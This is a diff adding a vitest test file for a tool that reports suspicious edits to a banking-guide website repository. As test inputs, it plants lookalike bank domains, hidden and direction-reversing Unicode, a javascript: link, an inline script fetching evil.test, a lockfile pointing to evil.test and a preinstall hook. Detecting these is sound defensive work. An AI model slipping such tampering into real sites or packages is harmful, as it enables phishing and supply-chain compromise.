@@ -1,0 +1,422 @@
+import { execFileSync } from 'node:child_process';
+import { globSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { git, startRepository } from '../../tests/fixtures/repository.ts';
+import { compare } from './compare.ts';
+import { reportOf } from './report.ts';
+import { readRevisions } from './revisions.ts';
+
+const GUIDE = 'tests/fixtures/guide';
+const FIRST = 'src/content/banks/first/index.mdx';
+const HARBOUR = 'src/content/credit-unions/harbour.mdx';
+const SAVINGS = 'src/content/guides/savings.mdx';
+const TERMS = 'src/content/pages/terms.mdx';
+const SOURCES = 'src/data/sources.yaml';
+const CHECK = '.github/workflows/check.yml';
+const LAYOUT = 'src/layouts/Page.astro';
+
+const guide = globSync('src/**/*.{mdx,yaml}', { cwd: GUIDE }).map((path) => [path, readFileSync(join(GUIDE, path), 'utf8')] as const);
+
+/** The small guide with two more banks, and the code around it in a few lines. */
+const BASE: Readonly<Record<string, string>> = {
+  ...Object.fromEntries(guide),
+  ...Object.fromEntries(['Royal', 'Other'].map((name) => [`src/content/banks/${name.toLowerCase()}/index.mdx`, another(name)])),
+  [CHECK]: 'on: pull_request\npermissions:\n  contents: read\njobs:\n  check:\n    steps:\n      - run: npm test\n',
+  'package.json': '{ "scripts": { "test": "vitest" }, "dependencies": { "astro": "7.0.0" } }',
+  'package-lock.json': lockOf('7.0.0'),
+  'checks/check.ts': 'export const RULES = [a, b];\n',
+  'scripts/diff/run.ts': 'console.log("facts");\n',
+  'netlify.toml': '[build]\ncommand = "npm run build"\n',
+  'public/_headers': '/*\n  X-Frame-Options: DENY\n',
+  'src/styles/colours.css': ':root { --ink: black; }\n',
+  'src/components/islands/Gauge.tsx': 'export const Gauge = () => null;\n',
+  [LAYOUT]: '<html><body><slot /></body></html>\n',
+  'README.md': '# Guide\n',
+};
+
+function another(name: string): string {
+  const first = Object.fromEntries(guide)[FIRST] ?? '';
+  return first.replaceAll('First', name).replaceAll('first', name.toLowerCase()).replace('a day [@', 'a day, always [@');
+}
+
+function lockOf(version: string, more: object = {}): string {
+  const resolved = `https://registry.npmjs.org/astro/-/astro-${version}.tgz`;
+  return JSON.stringify({ packages: { '': {}, 'node_modules/astro': { version, resolved, integrity: `sha512-${version}`, ...more } } });
+}
+
+type Edit = string | undefined | ((text: string) => string);
+type Edits = Readonly<Record<string, Edit>>;
+
+const put =
+  (was: string, is: string) =>
+  (text: string): string => {
+    if (!text.includes(was)) throw new Error(`"${was}" is not in the file`);
+    return text.replace(was, () => is);
+  };
+
+const both =
+  (...edits: ((text: string) => string)[]) =>
+  (text: string) =>
+    edits.reduce((now, edit) => edit(now), text);
+
+const everyRecord = (edit: (text: string) => string): Edits =>
+  Object.fromEntries(Object.keys(BASE).flatMap((path) => (/banks\/\w+\/index\.mdx$/.test(path) ? [[path, edit]] : [])));
+
+const SOURCE_URL = 'https://first.example/fees';
+const SET_LIMIT = put('value: $3,000\n      source: listed', 'value: $10,000\n      source: listed');
+const IN_TEXT = put('You can send up to', 'See [the terms](https://terms.example/a). You can send up to');
+const NEW_NUMBER = put('You can send', 'Call 1-800-555-0199. You can send');
+
+/** What somebody proposes, under which heading the report must tell it, and in which words; more pairs may follow. */
+const CASES: readonly (readonly [name: string, edits: Edits, ...expected: (readonly [heading: string, words: RegExp])[]])[] = [
+  // Addresses
+  [
+    'a digit for a letter in a source',
+    { [FIRST]: put(SOURCE_URL, 'https://f1rst.example/fees') },
+    ['Danger', /new host: `https:\/\/f1rst\.example\/fees`, was `https:\/\/first\.example\/fees`.*looks like first\.example/],
+    ['Sources', /another address, and not read again/],
+  ],
+  [
+    'a Cyrillic letter in a source',
+    { [FIRST]: put(SOURCE_URL, 'https://fіrst.example/fees') },
+    ['Danger', /another script.*looks like first\.example/],
+  ],
+  ['a letter more in a source', { [FIRST]: put(SOURCE_URL, 'https://firsst.example/fees') }, ['Danger', /one letter from first\.example/]],
+  ['two letters swapped', { [FIRST]: put(SOURCE_URL, 'https://frist.example/fees') }, ['Danger', /one letter from first\.example/]],
+  [
+    'the name with another ending',
+    { [FIRST]: put('website: https://first.example/', 'website: https://first.test/') },
+    ['Danger', /first\.example with another ending/],
+    ['Facts', /Website: was https/],
+  ],
+  [
+    'the host as the beginning of another',
+    { [FIRST]: put(SOURCE_URL, 'https://first.example.login.test/fees') },
+    ['Danger', /has the name of first\.example in it/],
+  ],
+  [
+    'the name in a longer one',
+    { [FIRST]: put(SOURCE_URL, 'https://first-login.test/fees') },
+    ['Danger', /has the name of first\.example in it/],
+  ],
+  [
+    'a user name before the host',
+    { [FIRST]: put(SOURCE_URL, 'https://first.example@evil.test/fees') },
+    ['Danger', /a user name in front of the host/],
+  ],
+  ['an IP address', { [FIRST]: put(SOURCE_URL, 'https://192.0.2.1/fees') }, ['Danger', /an IP address/]],
+  [
+    'a shared source on another domain',
+    { [SOURCES]: put('https://regulator.example/notice', 'https://notice.test/') },
+    ['Danger', /new host: `https:\/\/notice\.test/],
+    ['Sources', /regulator.*used by/],
+  ],
+  [
+    'an address of another bank',
+    { [FIRST]: put('website: https://first.example/', 'website: https://royal.example/') },
+    ['Danger', /another host: `https:\/\/royal.*not among the hosts of First until now/],
+  ],
+  ['an outside link in a text', { [FIRST]: IN_TEXT }, ['Danger', /new host: `https:\/\/terms\.example\/a`/], ['Texts', /How it works/]],
+  [
+    'the target of a link alone',
+    { [SAVINGS]: put('(/banks/first/#security)', '(https://firsst.example/)') },
+    ['Danger', /firsst\.example.*one letter from/],
+  ],
+  ['a link without a scheme', { [SAVINGS]: put('(/banks/first/#security)', '(//evil.test/a)') }, ['Danger', /\/\/evil\.test\/a/]],
+  [
+    'a script as a link',
+    { [SAVINGS]: put('(/banks/first/#security)', '(javascript:alert`1`)') },
+    ['Danger', /an address that is no web page|scheme/],
+  ],
+  [
+    'a mailbox',
+    { [FIRST]: put('You can send', 'Write to help@f1rst.example. You can send') },
+    ['Danger', /mailbox: `help@f1rst\.example`.*looks like/],
+  ],
+  ['one host in three files', everyRecord(IN_TEXT), ['Danger', /terms\.example.*first.*royal.*other|terms\.example.*first.*other.*royal/]],
+  [
+    'a store listing elsewhere',
+    { [FIRST]: put('https://apps.apple.com/ca/app/first/id1', 'https://apps.evil.test/ca/app/first/id1') },
+    ['Danger', /apps\.evil\.test/],
+    ['Facts', /App Store listing, address/],
+  ],
+  // Characters
+  [
+    'a Cyrillic letter in a name',
+    { [FIRST]: put('name: First Bank', 'name: First B\u0430nk') },
+    ['Danger', /another script: `B⟨U\+0430⟩nk`/],
+  ],
+  [
+    'a space that nobody sees',
+    { [FIRST]: put('$3,000 a day', '$3,0\u200b00 a day') },
+    ['Danger', /invisible characters: `\$3,0⟨U\+200B⟩00`/],
+  ],
+  ['a turn of the direction', { [TERMS]: put('Nobody may', 'Nobody \u202emay') }, ['Danger', /U\+202E/]],
+  ['characters of tags', { [TERMS]: put('Nobody', 'Nobody\u{E0041}\u{E0042}') }, ['Danger', /U\+E0041/]],
+  ['a turn of the direction in code', { 'checks/check.ts': put('[a, b]', '[a, \u2066b]') }, ['Danger', /U\+2066/]],
+  // Telephone numbers, insurers, code in texts
+  ['a digit of a telephone number', { [FIRST]: NEW_NUMBER }, ['Danger', /telephone number: `1-800-555-0199`/]],
+  [
+    'a telephone number in a record',
+    { [FIRST]: put('faq:', 'support:\n  phones:\n    - label: Fraud\n      number: 1-800-555-0142\n      source: first-fees\nfaq:') },
+    ['Danger', /telephone number: `1-800-555-0142`/],
+    ['Facts', /Fraud: was not on record, now 1-800-555-0142/],
+  ],
+  [
+    'another insurer',
+    { [FIRST]: put('value: CDIC', 'value: Trust us') },
+    ['Danger', /insurer of First: `Trust us`, was `CDIC`/],
+    ['Facts', /Deposit insurance: was CDIC, now Trust us.*its source and date did not/],
+  ],
+  [
+    'code in a text',
+    { [SAVINGS]: (text) => `${text}\nimport x from 'node:fs'\n` },
+    ['Danger', /code in a text: `import x/],
+    ['', /does not pass the content check/],
+  ],
+  ['HTML in a text', { [SAVINGS]: (text) => `${text}\n<iframe src="x"></iframe>\n` }, ['Danger', /code in a text: `<iframe/]],
+  // Values and their evidence
+  [
+    'a value under its old source',
+    { [FIRST]: SET_LIMIT },
+    ['Facts', /was \$3,000, now \$10,000.*the value changed, its source and date did not/],
+    ['Facts', /on `\/banks\/first\/`/],
+  ],
+  [
+    'a value with a new reading',
+    {
+      [FIRST]: both(
+        put('value: $3,000\n      source: listed', 'value: $3,500\n      source: first-fees'),
+        put('consulted: 2026-11-20', 'consulted: 2026-11-23'),
+      ),
+    },
+    ['Facts', /now \$3,500.*\+ Fees, `first\.example`, official/],
+    ['Merely renewed', /1 of their values changed/],
+  ],
+  [
+    'another source for the same value',
+    { [FIRST]: put('value: CDIC\n  source: regulator', 'value: CDIC\n  source: first-fees') },
+    ['Facts', /source replaced.*another source for the same value/],
+  ],
+  [
+    'a claim that disagreed is gone',
+    {
+      [FIRST]: put(
+        'claims:\n      - value: $1.00\n        source: listed\n      - value: Free\n        source: first-fees',
+        'value: Free\n    source: first-fees',
+      ),
+    },
+    ['Facts', /was \$1\.00 or Free, now Free.*a claim that disagreed is gone: \$1\.00 by listed/],
+  ],
+  [
+    'two sources change sides',
+    {
+      [FIRST]: put(
+        '- value: $1.00\n        source: listed\n      - value: Free\n        source: first-fees',
+        '- value: Free\n        source: listed\n      - value: $1.00\n        source: first-fees',
+      ),
+    },
+    ['Facts', /who says what changed/],
+  ],
+  [
+    'a fact that is gone',
+    { [FIRST]: put('limits:\n  eTransfer:\n    per24Hours:\n      value: $3,000\n      source: listed\n', '') },
+    ['Facts', /was \$3,000, now not on record/],
+  ],
+  [
+    'a capability against another field',
+    { [FIRST]: put('value: true', 'value: false') },
+    ['Facts', /etransfer is “no”, and fees\.eTransfer is/],
+    ['Facts', /Score: \*\*First\*\*/],
+  ],
+  [
+    'an amount in a note',
+    { [FIRST]: put('Its own page says free.', 'Its own page says free up to $500,000.') },
+    ['Facts', /fees\.eTransfer\.note: .*\*\*\$500,000/],
+  ],
+  [
+    'an amount in a text that the record lacks',
+    { [FIRST]: put('up to $3,000 a day', 'up to $5,000 a day') },
+    ['Texts', /\*\*\$3,000\*\*.*\*\*\$5,000\*\*.*in no field of the record: \$5,000/],
+  ],
+  ['a text in the words of a fact elsewhere', { [FIRST]: put('title: First Bank online', 'title: CDIC') }, ['Texts', /page\.title.*CDIC/]],
+  [
+    'a shared fact',
+    { 'src/data/shared-facts.yaml': put('Up to $1.50', 'Up to $2.00') },
+    ['Facts', /Every institution.*was Up to \$1\.50, now Up to \$2\.00/],
+  ],
+  ['one value in three records', everyRecord(put('value: CDIC', 'value: CDIC, up to $1')), ['Facts', /3 institutions.*Deposit insurance/]],
+  [
+    'the same words on three pages',
+    everyRecord(put('## Mobile app\n\nText.', '## Mobile app\n\nWords.')),
+    ['Texts', /3 pages.*Mobile app/],
+  ],
+  [
+    'the weights of the score',
+    { 'src/data/capabilities.yaml': put("banknote: '5'\n    weight: 1", "banknote: '5'\n    weight: 4") },
+    ['Facts', /Score/],
+    ['Texts', /groups\.0\.weight/],
+  ],
+  // Sources and days
+  [
+    'a third party that becomes official',
+    { [SOURCES]: put('kind: third-party', 'kind: official') },
+    ['Sources', /kind was third-party, now official.*now counts as official/],
+  ],
+  [
+    'another publisher',
+    { [FIRST]: put('publisher: First Bank', 'publisher: Regulator') },
+    ['Sources', /publisher was First Bank, now Regulator/],
+  ],
+  [
+    'reading days raised',
+    everyRecord(put('consulted: 2026-11-20', 'consulted: 2026-11-23')),
+    [
+      'Merely renewed',
+      /3 sources consulted again, no value changed: consulted was 2026-11-20, now 2026-11-23, stored copy, not opened live/,
+    ],
+  ],
+  [
+    'a date of its own raised',
+    { [SOURCES]: put('published: 2025-08-28', 'published: 2026-08-28') },
+    ['Sources', /another date, and not read again/],
+  ],
+  [
+    'verified, and no source read',
+    { [FIRST]: put('faq:', 'lastVerified: 2026-11-24\nfaq:') },
+    ['Facts', /Last verified.*1 of its 1 sources were not read since/],
+  ],
+  [
+    'a source deleted that others use',
+    { [SOURCES]: (text) => text.slice(0, text.indexOf('- id: regulator')) },
+    ['Sources', /regulator\*\*: removed.*still used/],
+    ['', /does not pass the content check: \d+ new issues/],
+  ],
+  // Pages
+  [
+    'a new institution',
+    {
+      'src/content/banks/third.mdx': another('Third')
+        .replace(/\n---\n\n[^]*$/, '\n---\n')
+        .replace(/page:\n[^]*?---/, '---'),
+    },
+    ['Pages', /Added: \*\*Third\*\*/],
+    ['Danger', /third\.example/],
+    ['Sources', /third-fees\*\*: added/],
+  ],
+  [
+    'a page renamed',
+    { [TERMS]: undefined, 'src/content/pages/rules.mdx': BASE[TERMS] },
+    ['Pages', /Moved: \*\*Terms\*\* from `\/terms\/` to `\/rules\/`/],
+  ],
+  ['a page gone', { [HARBOUR]: undefined }, ['Pages', /Removed: \*\*Harbour\*\*/]],
+  [
+    'a file that cannot be read',
+    { [FIRST]: '---\nname: "First\n---\n' },
+    ['', /cannot be read in head/],
+    ['', /does not pass the content check/],
+  ],
+  [
+    'a comment for editors alone',
+    { [FIRST]: put('name: First Bank', 'name: First Bank # so it says') },
+    ['Looks and code', /Content and data \(1\)/],
+  ],
+  [
+    'an exception from the check',
+    { [FIRST]: put('name: First Bank', 'name: First Bank # check: allow style: it is right') },
+    ['Danger', /exception from the content check/],
+  ],
+  // What runs
+  [
+    'a workflow that may write all',
+    { [CHECK]: put('contents: read', 'contents: write-all') },
+    ['', /\*\*What runs on GitHub changed \(1\)\*\*[^]*\+ contents: write-all/],
+  ],
+  [
+    'the report itself',
+    { 'scripts/diff/run.ts': () => 'console.log("Nothing differs");' },
+    ['', /\*\*Tools and checks changed \(1\)\*\*: `scripts\/diff\/run\.ts`/],
+  ],
+  ['a rule of the check', { 'checks/check.ts': put('[a, b]', '[a]') }, ['', /\*\*Tools and checks changed/]],
+  [
+    'a script in a layout',
+    { [LAYOUT]: put('<slot />', '<slot /><script is:inline>fetch("https://evil.test/")</script>') },
+    ['', /\*\*What runs in pages changed[^]*\+ .*<script is:inline/],
+    ['Danger', /evil\.test/],
+  ],
+  [
+    'an island',
+    { 'src/components/islands/Gauge.tsx': () => 'export const Gauge = () => undefined;\n' },
+    ['', /\*\*What runs in pages changed/],
+  ],
+  [
+    'a package',
+    { 'package.json': put('"astro"', '"evil": "1.0.0", "astro"'), 'package-lock.json': lockOf('7.0.1', { hasInstallScript: true }) },
+    ['', /dependencies evil: nothing → 1\.0\.0/],
+    ['', /astro: 7\.0\.0 → 7\.0\.1, runs a script when it is installed/],
+  ],
+  [
+    'other content of a package',
+    { 'package-lock.json': lockOf('7.0.0', { integrity: 'sha512-x', resolved: 'https://evil.test/a.tgz' }) },
+    ['', /comes from https:\/\/evil\.test.*the same version with other content/],
+  ],
+  [
+    'a script around the tests',
+    { 'package.json': put('"scripts": {', '"scripts": { "preinstall": "node x.js",') },
+    ['', /scripts preinstall: nothing → node x\.js/],
+  ],
+  ['headers of the hosts', { 'public/_headers': put('DENY', 'SAMEORIGIN') }, ['', /Hosts and their headers changed[^]*SAMEORIGIN/]],
+  ['a page that only runs', { 'public/x.html': '<script>1</script>' }, ['', /What runs in pages changed.*public\/x\.html/]],
+  ['a colour', { 'src/styles/colours.css': put('black', 'red') }, ['Looks and code', /Looks \(1\): `src\/styles\/colours\.css`/]],
+  ['words about the project', { 'README.md': put('Guide', 'Guides') }, ['Looks and code', /Words about the project \(1\)/]],
+];
+
+let folder: string;
+
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'cases-'));
+  startRepository(folder);
+  execFileSync('git', ['fast-import', '--quiet'], { cwd: folder, input: Buffer.from(importOf()) });
+});
+
+afterAll(() => rmSync(folder, { recursive: true }));
+
+/** All branches in one stream: main, and one for each case. */
+function importOf(): string {
+  const committer = 'committer Editor <editor@banking-guide.example> 1795000000 +0000';
+  const file = (path: string, text: string) => `M 100644 inline ${path}\ndata ${Buffer.byteLength(text)}\n${text}\n`;
+  const start = (branch: string) => `commit refs/heads/${branch}\n${committer}\ndata 4\nEdit\n`;
+  const main = `${start('main')}${Object.entries(BASE)
+    .map(([path, text]) => file(path, text))
+    .join('')}\n`;
+  const cases = CASES.map(([, edits], at) => {
+    const changed = Object.entries(edits).map(([path, edit]) => {
+      const text = typeof edit === 'function' ? edit(BASE[path] ?? '') : edit;
+      return text === undefined ? `D ${path}\n` : file(path, text);
+    });
+    return `${start(`case-${at}`)}from refs/heads/main\n${changed.join('')}\n`;
+  });
+  return [main, ...cases].join('');
+}
+
+test.each(CASES.map(([name, edits, ...expected], at) => ({ name, paths: Object.keys(edits), expected, branch: `case-${at}` })))(
+  '$name is told in its place',
+  async ({ expected, branch }) => {
+    const report = reportOf(compare(await readRevisions(folder, { base: 'main', head: branch }), '2026-12-01'));
+    const sections = new Map(
+      report.split(/^### /m).map((section, at) => (at === 0 ? ['', section] : [section.split('\n', 1)[0], section])),
+    );
+    for (const [heading, words] of expected) expect(sections.get(heading) ?? report).toMatch(words);
+    expect([...sections.keys()]).toEqual(expect.arrayContaining(expected.map(([heading]) => heading)));
+    expect(report).not.toContain('Nothing differs.');
+  },
+);
+
+test('the first line says whose code wrote the report, and what it compared', async () => {
+  const [line = ''] = reportOf(compare(await readRevisions(folder, { base: 'main', head: 'case-0' }), '2026-12-01')).split('\n');
+  expect(line).toMatch(/^\*\*Written by code that is not that of main \(\w{7}\)|^Written by the code of main \(\w{7}\)/);
+  expect(line).toMatch(/Compared: main \(\w{7}\) → case-0 \(\w{7}\), 1 file\./);
+  expect(git(folder, ['status', '--porcelain', '--ignored'])).toContain('D');
+});
